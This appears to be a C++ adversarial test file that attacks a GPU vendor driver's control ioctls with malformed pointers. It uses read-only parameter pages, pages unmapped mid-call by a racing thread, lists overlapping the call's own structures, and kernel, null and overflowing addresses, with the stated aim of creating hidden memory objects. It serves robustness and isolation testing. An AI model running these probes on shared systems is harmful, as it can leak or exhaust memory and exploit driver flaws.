// Attacks with pointers inside parameters: onto each other, onto what cannot be written, onto what
// is there and gone. The vendor's driver follows most of them with care; what one can gain is an
// object that its maker is told does not exist, and an answer that nobody rewrites.
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <bit>
#include <cerrno>
#include <cstring>
#include <thread>

#include "common.h"
#include "rm/fb_info.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint64_t kPage = 4096;
// The same in every run, so that pointers are.
constexpr std::uint64_t kArena = 0x200000000000;
constexpr std::uint32_t kChosen =
    0xcafe0000;  // a client's handle that the driver does not give out

std::byte* Pages(std::uint64_t at, std::uint64_t count, int protection) {
  void* page = mmap(std::bit_cast<void*>(at), count * kPage, protection,
                    MAP_PRIVATE | MAP_ANONYMOUS | (at == 0 ? 0 : MAP_FIXED_NOREPLACE), -1, 0);
  if (page == MAP_FAILED) {
    Die("failed: no pages: %s", std::strerror(errno));
  }
  return static_cast<std::byte*>(page);
}

std::uint64_t Address(const void* pointer) {
  return std::bit_cast<std::uint64_t>(pointer);
}

template <class T>
void Put(std::byte* at, const T& value) {
  std::memcpy(at, &value, sizeof(value));
}
template <class T>
T Get(const std::byte* at) {
  T value{};
  std::memcpy(&value, at, sizeof(value));
  return value;
}

// As the caller sees it: done, or not; a pointer that leads nowhere is told in one of two ways.
const char* Verdict(int error, std::uint32_t status) {
  if (error == EFAULT || (error == 0 && status == rm::NV_ERR_INVALID_ADDRESS)) {
    return "fault";
  }
  return error == 0 && status == rm::NV_OK ? "done" : "refused";
}

// --- Objects that their maker is told do not exist

// The parameters on a page that the driver can read and cannot write.
rm::NVOS21_PARAMETERS AllocOf(const Client& client, std::uint32_t handle, std::uint64_t params) {
  rm::NVOS21_PARAMETERS alloc{};
  alloc.hRoot = client.root;
  alloc.hObjectParent = Client::kDevice;
  alloc.hObjectNew = handle;
  alloc.hClass = rm::NV01_MEMORY_LOCAL_USER;
  alloc.pAllocParms = params;
  return alloc;
}

// unwritable image|params|heap|dup [MIB]
int Unwritable(const std::vector<std::string>& args) {
  const std::string what = args.empty() ? "params" : args[0];
  const std::uint64_t wanted = Number(args, 1, 4096);
  constexpr std::uint64_t kStep = 64;
  Client client = MakeClient();
  std::byte* page = Pages(0, 1, PROT_READ | PROT_WRITE);
  std::uint64_t tries = 0;
  std::uint64_t done = 0;
  for (; tries * kStep < wanted; ++tries) {
    (void)mprotect(page, kPage, PROT_READ | PROT_WRITE);
    auto memory = MemoryParams(kStep * kMiB);
    int error = 0;
    std::uint32_t status = rm::NV_OK;
    if (what == "params") {
      Put(page, memory);
      auto alloc = AllocOf(client, client.next++, Address(page));
      (void)mprotect(page, kPage, PROT_READ);
      error = Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc));
      status = alloc.status;
    } else if (what == "image") {
      Put(page, AllocOf(client, client.next++, Address(&memory)));
      (void)mprotect(page, kPage, PROT_READ);
      error = Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, page, sizeof(rm::NVOS21_PARAMETERS));
    } else if (what == "heap") {
      rm::NVOS32_PARAMETERS heap{};
      heap.hRoot = client.root;
      heap.hObjectParent = Client::kDevice;
      heap.function = rm::NVOS32_FUNCTION_ALLOC_SIZE;
      heap.data.AllocSize.size = kStep * kMiB;
      Put(page, heap);
      (void)mprotect(page, kPage, PROT_READ);
      error = Plainly(client.ctl, rm::NV_ESC_RM_VID_HEAP_CONTROL, page, sizeof(heap));
    } else {
      // The copy is kept, the original is freed.
      std::uint32_t original = 0;
      status = client.AllocMemory(kStep, &original);
      rm::NVOS55_PARAMETERS dup{};
      dup.hClient = client.root;
      dup.hParent = Client::kDevice;
      dup.hObject = client.next++;
      dup.hClientSrc = client.root;
      dup.hObjectSrc = original;
      Put(page, dup);
      (void)mprotect(page, kPage, PROT_READ);
      error = Plainly(client.ctl, rm::NV_ESC_RM_DUP_OBJECT, page, sizeof(dup));
      (void)client.Free(original);
    }
    done += error == 0 && status == rm::NV_OK ? 1 : 0;
  }
  Say("tries %llu done %llu", static_cast<unsigned long long>(tries),
      static_cast<unsigned long long>(done));
  Hold();
  return 0;
}

// vanishing [MIB]: another thread takes the parameters' page away and puts it back all the time. It
// goes on for longer where that thread, which may be off the processor, let too few calls succeed,
// until there is no more memory.
int Vanishing(const std::vector<std::string>& args) {
  const std::uint64_t wanted = Number(args, 0, 16384);
  constexpr std::uint64_t kStep = 16;
  constexpr std::uint64_t kEnough = 2048;
  constexpr std::uint64_t kLonger = 16;
  Client client = MakeClient();
  std::byte* page = Pages(kArena, 1, PROT_READ | PROT_WRITE);
  std::atomic<bool> stop = false;
  std::thread flipper([&] {
    const auto memory = MemoryParams(kStep * kMiB);
    for (unsigned turn = 0; !stop; ++turn) {
      const int protection = turn % 3 == 0   ? PROT_NONE
                             : turn % 3 == 1 ? PROT_READ
                                             : PROT_READ | PROT_WRITE;
      if (turn % 7 == 0) {
        (void)munmap(page, kPage);
      }
      (void)mmap(page, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1,
                 0);
      Put(page, memory);
      (void)mprotect(page, kPage, protection);
    }
  });
  std::uint64_t done = 0;
  std::uint64_t faults = 0;
  bool full = false;
  const auto goes_on = [&](std::uint64_t asked) {
    return asked < wanted || (!full && done * kStep < kEnough && asked < kLonger * wanted);
  };
  for (std::uint64_t turn = 0; goes_on(turn * kStep); ++turn) {
    auto alloc = AllocOf(client, client.next++, kArena);
    const int error = Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc));
    done += Verdict(error, alloc.status)[0] == 'd' ? 1 : 0;
    faults += Verdict(error, alloc.status)[0] == 'f' ? 1 : 0;
    full = full || alloc.status == rm::NV_ERR_NO_MEMORY;
  }
  stop = true;
  flipper.join();
  Say("done %llu faults %llu", static_cast<unsigned long long>(done),
      static_cast<unsigned long long>(faults));
  Hold();
  return 0;
}

// --- Pointers onto each other

// A client with a handle of ours, so that what is copied back is the same in every run.
Client ChosenClient() {
  Client client;
  client.ctl = OpenControl();
  client.gpu = OpenGpu();
  rm::NVOS21_PARAMETERS alloc{};
  alloc.hRoot = kChosen;
  alloc.hObjectNew = kChosen;
  alloc.hClass = rm::NV01_ROOT_CLIENT;
  if (Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc)) != 0 ||
      alloc.status != rm::NV_OK) {
    Die("failed: no client");
  }
  client.root = kChosen;
  if (client.AllocDevice() != rm::NV_OK) {
    Die("failed: no device");
  }
  return client;
}

std::uint32_t Hash(const std::byte* bytes, std::size_t size) {
  std::uint32_t hash = 2166136261;
  for (std::size_t i = 0; i < size; ++i) {
    hash = (hash ^ std::to_integer<std::uint32_t>(bytes[i])) * 16777619;
  }
  return hash;
}

// A control whose parameters {count, pointer} and list lie on one page, and where.
struct Layout {
  std::uint32_t object;
  std::uint32_t command;
  std::uint32_t count;
  std::uint64_t params;
  std::uint64_t list;
};
constexpr std::uint64_t kImage = 1024;  // in the page

// Runs it on a page full of a pattern; says what became of the call and of every byte of the page.
int Lay(const Client& client, std::byte* page, const Layout& layout, std::uint32_t index) {
  std::memset(page, 0xa5, kPage);
  struct {
    std::uint32_t count;
    std::uint32_t pad;
    std::uint64_t pointer;
  } params{layout.count, 0, Address(page) + layout.list};
  rm::NVOS54_PARAMETERS control{};
  control.hClient = client.root;
  control.hObject = layout.object;
  control.cmd = layout.command;
  control.params = Address(page) + layout.params;
  control.paramsSize = sizeof(params);
  if (layout.command == rm::NV2080_CTRL_CMD_FB_GET_INFO) {
    for (std::uint32_t i = 0; i < layout.count; ++i) {
      Put(page + layout.list + i * sizeof(rm::NV2080_CTRL_FB_INFO),
          rm::NV2080_CTRL_FB_INFO{index, 0});
    }
  }
  Put(page + kImage, control);
  Put(page + layout.params, params);
  return Plainly(client.ctl, rm::NV_ESC_RM_CONTROL, page + kImage, sizeof(control));
}

// Two lists of one command, onto the same memory: what is asked for and what is answered.
void Twice(Client& client, std::byte* page) {
  rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS group{};
  group.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
  const std::uint32_t handle = client.next++;
  (void)client.Alloc(Client::kDevice, handle, rm::KEPLER_CHANNEL_GROUP_A, &group, sizeof(group));
  std::uint32_t channels[4] = {};
  for (std::uint32_t& channel : channels) {
    rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
    params.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
    channel = client.next++;
    (void)client.Alloc(handle, channel, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params));
  }
  for (std::uint64_t answers = 2048 - 24; answers < 2048 + 24; answers += 4) {
    std::memset(page, 0xa5, kPage);
    struct {
      std::uint32_t count;
      std::uint32_t pad;
      std::uint64_t handles;
      std::uint64_t answers;
    } params{4, 0, Address(page) + 2048, Address(page) + answers};
    Put(page + 2048, channels);
    const std::uint32_t status = client.Control(
        Client::kDevice, rm::NV0080_CTRL_CMD_FIFO_GET_CHANNELLIST, &params, sizeof(params));
    Say("twice %llu status 0x%x page 0x%x", static_cast<unsigned long long>(answers), status,
        Hash(page, kPage));
  }
}

// overlap TOTAL_KIB: lists laid over the parameters, the call's own image and each other's ends.
int Overlap(const std::vector<std::string>& args) {
  const auto total = static_cast<std::uint32_t>(Number(args, 0, 0));
  Client client = ChosenClient();
  std::byte* page = Pages(kArena, 1, PROT_READ | PROT_WRITE);
  int seen = 0;
  const auto look = [&](const Layout& layout, std::uint32_t index) {
    const int error = Lay(client, page, layout, index);
    const auto status = Get<rm::NVOS54_PARAMETERS>(page + kImage).status;
    for (std::size_t at = 0; at + sizeof(total) <= kPage; at += sizeof(total)) {
      seen += Get<std::uint32_t>(page + at) == total ? 1 : 0;
    }
    return std::pair(error, status);
  };
  constexpr std::uint64_t kAround[] = {kImage, 2048};
  for (const std::uint64_t params : {kImage + 8, kImage + 32, std::uint64_t{2048}}) {
    for (const std::uint64_t around : kAround) {
      for (std::uint64_t list = around - 32; list < around + 64; list += 4) {
        const Layout classes{Client::kDevice, rm::NV0080_CTRL_CMD_GPU_GET_CLASSLIST, 200, params,
                             list};
        const auto [error, status] = look(classes, 0);
        Say("classes %llu %llu errno %d status 0x%x page 0x%x",
            static_cast<unsigned long long>(params), static_cast<unsigned long long>(list), error,
            status, Hash(page, kPage));
        const Layout info{Client::kSubdevice, rm::NV2080_CTRL_CMD_FB_GET_INFO, 2, params, list};
        (void)look(info, rm::NV2080_CTRL_FB_INFO_INDEX_TOTAL_RAM_SIZE);
      }
    }
  }
  Twice(client, page);
  Say("seen %d", seen);
  Hold();
  return 0;
}

// --- Pointers to the edge of what is there

// edges: lists that leave the tenant's memory, counts that overflow. Nothing may be written.
int Edges(const std::vector<std::string>&) {
  const Client client = MakeClient();
  std::byte* pages = Pages(kArena, 3, PROT_READ | PROT_WRITE);
  (void)munmap(pages + 2 * kPage, kPage);
  const std::uint64_t end = Address(pages) + 2 * kPage;
  std::byte* locked = Pages(kArena + 64 * kPage, 1, PROT_READ);
  struct Case {
    const char* name;
    std::uint32_t count;
    std::uint64_t list;
  };
  const Case cases[] = {
      {"crossing", 4, end - 12},
      {"ending", 1, end - 8},
      {"unmapped", 1, end},
      {"first-page", 1, 8},
      {"kernel", 1, 0xffff888000000000},
      {"no-address", 1, 0x8000000000000000},
      {"wrapping", 2, ~std::uint64_t{0} - 7},
      {"wraps-to-0", 0x20000000, end - 4096},
      {"wraps-to-8", 0x20000001, end - 4096},
      {"wraps-to-all", 0xffffffff, end - 4096},
      {"negative", 0x80000001, end - 4096},
      {"none", 0, end - 4096},
      {"null", 1, 0},
      {"read-only", 1, Address(locked)},
  };
  for (const Case& one : cases) {
    std::memset(pages, 0xa5, 2 * kPage);
    Put(pages + 2 * kPage - 8, rm::NV2080_CTRL_FB_INFO{rm::NV2080_CTRL_FB_INFO_INDEX_RAM_TYPE, 0});
    const std::uint32_t before = Hash(pages, 2 * kPage - 8);
    rm::NV2080_CTRL_FB_GET_INFO_PARAMS params{};
    params.fbInfoListSize = one.count;
    params.fbInfoList = one.list;
    rm::NVOS54_PARAMETERS control{};
    control.hClient = client.root;
    control.hObject = Client::kSubdevice;
    control.cmd = rm::NV2080_CTRL_CMD_FB_GET_INFO;
    control.params = Address(&params);
    control.paramsSize = sizeof(params);
    const int error = Plainly(client.ctl, rm::NV_ESC_RM_CONTROL, &control, sizeof(control));
    Say("edge %s %s %s errno %d status 0x%x", one.name, Verdict(error, control.status),
        Hash(pages, 2 * kPage - 8) == before ? "untouched" : "written", error, control.status);
  }
  // And everything goes on.
  Client other = MakeClient();
  Say("afterwards 0x%x", other.AllocMemory(16));
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> PointerAttacks() {
  return {
      {"unwritable", Unwritable, "image|params|heap|dup [MIB]: objects that are said not to exist"},
      {"vanishing", Vanishing, "[MIB]: parameters on a page that comes and goes"},
      {"overlap", Overlap, "TOTAL_KIB: lists over parameters and the call itself"},
      {"edges", Edges, ": lists that leave the tenant's memory, counts that overflow"},
  };
}

}  // namespace cgpu::adversary
